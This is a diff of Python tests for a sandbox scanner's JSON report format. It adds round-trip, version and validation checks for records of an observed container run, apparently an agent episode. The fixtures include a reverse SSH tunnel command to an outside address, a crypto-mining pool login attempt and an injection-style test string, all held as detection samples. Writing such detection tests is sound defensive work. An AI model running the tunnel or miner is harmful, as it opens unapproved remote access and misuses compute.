@@ -1,3 +1,4 @@
+import base64
 import gc
 import json
 import time
@@ -15,7 +16,7 @@ from scanner.model import Confidence, Level, Report, Severity, State
 from scanner.reports.json import load, render, schema
 from scanner.reports.jsontext import dumps
 from scanner.reports.plugin import RenderOptions
-from tests.reports import samples, samples_egress, strategies
+from tests.reports import runs, samples, samples_egress, strategies
 
 PLAIN = RenderOptions()
 VALIDATOR = jsonschema.Draft202012Validator(schema())
@@ -68,7 +69,7 @@ def test_a_name_that_is_not_utf8_survives():
     assert packed.locations[0].inner[0] == b"w\xe9heels/fast.whl"
 
 
-@given(strategies.reports | strategies.launched)
+@given(strategies.reports | strategies.launched | strategies.watched)
 @settings(deadline=None, suppress_health_check=list(HealthCheck), max_examples=100)
 def test_load_is_the_inverse_of_render_and_both_agree_with_the_schema(report):
     text = render(report, PLAIN)
@@ -81,7 +82,19 @@ def test_load_is_the_inverse_of_render_and_both_agree_with_the_schema(report):
 
 
 @pytest.mark.parametrize(
-    "report", [samples.CLEAN, samples.INFECTED, samples.INCOMPLETE, samples_egress.LAUNCHED, samples_egress.BOTH]
+    "report",
+    [
+        samples.CLEAN,
+        samples.INFECTED,
+        samples.INCOMPLETE,
+        samples_egress.LAUNCHED,
+        samples_egress.BOTH,
+        runs.WATCHED,
+        runs.QUIET,
+        runs.NAMELESS,
+        runs.JOINED,
+        runs.spiteful("\ud800</script>\x1b[2J", 100),
+    ],
 )
 def test_a_report_comes_back_equal(report):
     assert load(render(report, PLAIN)) == report
@@ -191,24 +204,83 @@ def test_without_a_launch_there_are_no_sandboxes():
     assert (written["launch"], written["sandboxes"]) == (None, [])
 
 
-def test_a_report_of_the_version_before_is_still_read():
-    older = document(samples.INCOMPLETE)
-    for name in ("launch", "sandboxes"):
-        del older[name]
-    for finding in older["findings"]:
-        del finding["flow"]
-    older["schema_version"] = "1.1"
+def older(report: Report, version: str) -> dict[str, Any]:
+    """The report as a sandscan of before would have written it."""
+    whole = document(report)
+    whole["schema_version"] = version
+    del whole["run"]
+    for sandbox in whole["sandboxes"]:
+        for verdict in sandbox["verdicts"]:
+            for one in (verdict, *verdict["paths"]):
+                del one["tried"]
+    if version == "1.1":
+        del whole["launch"], whole["sandboxes"]
+        for finding in whole["findings"]:
+            del finding["flow"]
+    return whole
 
-    assert load(json.dumps(older)) == samples.INCOMPLETE
+
+@pytest.mark.parametrize(
+    ("report", "version"),
+    [
+        (samples.INCOMPLETE, "1.1"),
+        (samples.INCOMPLETE, "1.2"),
+        (samples_egress.LAUNCHED, "1.2"),
+        (samples_egress.BOTH, "1.2"),
+    ],
+)
+def test_a_report_of_a_version_before_is_still_read(report, version):
+    assert load(json.dumps(older(report, version))) == report
 
 
-@pytest.mark.parametrize("name", ["launch", "sandboxes"])
-def test_the_version_before_knew_no_launch(name):
-    older = {**document(samples.INCOMPLETE), "schema_version": "1.1"}
-    del older[{"launch": "sandboxes", "sandboxes": "launch"}[name]]
+@pytest.mark.parametrize(("name", "version"), [("launch", "1.1"), ("sandboxes", "1.1"), ("run", "1.1"), ("run", "1.2")])
+def test_a_version_before_did_not_know_what_came_later(name, version):
+    before = older(samples.INCOMPLETE, version)
+    before[name] = None
 
-    with pytest.raises(ReportError, match=f"{name} is not known to version 1.1"):
-        load(json.dumps(older))
+    with pytest.raises(ReportError, match=f"{name} is not known to version {version}"):
+        load(json.dumps(before))
+
+
+# ---- a run
+
+
+def test_the_fields_of_a_run_that_others_rely_on_are_there():
+    written = document(runs.WATCHED)["run"]
+
+    assert (written["how"], written["subject"], written["episode"]) == ("observe", "rome-1", "ep-42")
+    assert (written["started"], written["ended"], written["exit_code"]) == (runs.START, runs.START + 60, None)
+    assert written["changes"][1]["path"] == "usr/lib/libprocess.so.0"
+    assert written["changes"][1]["before"]["modified"] == written["changes"][1]["after"]["modified"]
+    assert written["changes"][1]["after"]["changed"] == runs.START + 2.5
+    assert written["processes"][2]["program"] == "deleted"
+    login = written["attempts"][1]
+    assert (login["target"], login["name"], login["service"]) == (
+        {"address": "198.18.0.7", "port": 3333},
+        "pool.example",
+        "stratum",
+    )
+    assert base64.b64decode(login["first"]) == runs.LOGIN.first
+    assert base64.b64decode(written["output"]) == runs.ROME.output
+    assert written["dropped"] == {"output bytes": 1_048_576}
+    assert document(runs.WATCHED)["findings"][0]["locations"] == [
+        {
+            "container": "rome-1",
+            "pid": 4_711,
+            "command": ["ssh", "-N", "-R", "2222:localhost:22", "ops@203.0.113.9"],
+            "executable": "usr/bin/ssh",
+        }
+    ]
+
+
+def test_a_report_says_what_was_tried_of_each_destination():
+    agent, other, _ = document(runs.JOINED)["sandboxes"]
+    verdicts = {one["destination"]: one for one in agent["verdicts"]}
+
+    assert [one["outcome"] for one in verdicts["internet"]["tried"]] == ["possible", "possible"]
+    assert verdicts["private"]["tried"] == []
+    assert [one["tried"] for one in verdicts["internet"]["paths"]] == [True]
+    assert {one["tried"] for one in other["verdicts"]} == {None}
 
 
 # ---- what load refuses
@@ -280,6 +352,23 @@ def change(*steps: str | int, to: Any, of: Report = samples.INCOMPLETE) -> str:
             change("sandboxes", 0, "graph", "edges", 1, "permits", 0, "ports", to=[[1]], of=samples_egress.LAUNCHED),
             r"edges\[1\].permits\[0\].ports\[0\] is not a pair of ports",
         ),
+        (change("run", "attempts", 0, "first", to="*", of=runs.WATCHED), r"run.attempts\[0\].first is not base64"),
+        (
+            change("run", "attempts", 0, "first", to="QR==", of=runs.WATCHED),
+            r"first is not base64 as sandscan writes it",
+        ),
+        (
+            change("run", "attempts", 1, "count", to=0, of=runs.WATCHED),
+            r"attempts\[1\].count is not a whole number from 1",
+        ),
+        (change("run", "started", to="now", of=runs.WATCHED), r"run.started is not a number"),
+        (change("run", "ended", to=10**400, of=runs.WATCHED), r"run.ended is not a number that a computer counts to"),
+        (change("run", "dropped", to={"x": -1}, of=runs.WATCHED), r"run.dropped.x is not a whole number from 0"),
+        (change("run", "how", to="guess", of=runs.WATCHED), r"run.how is not one of diff, live, observe"),
+        (
+            change("run", "changes", 0, "after", "kind", to="soup", of=runs.WATCHED),
+            r"changes\[0\].after.kind is not one",
+        ),
         (
             change("findings", 0, "flow", 0, "location", to={"file": "x"}, of=samples_egress.LAUNCHED),
             r"findings\[0\].flow\[0\].location lacks",
@@ -315,7 +404,9 @@ def nodes(value: Any, steps: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
 
 
 NODES = [
-    (report, steps) for report in (samples.INCOMPLETE, samples_egress.LAUNCHED) for steps in nodes(document(report))
+    (report, steps)
+    for report in (samples.INCOMPLETE, samples_egress.LAUNCHED, runs.JOINED)
+    for steps in nodes(document(report))
 ]
 
 
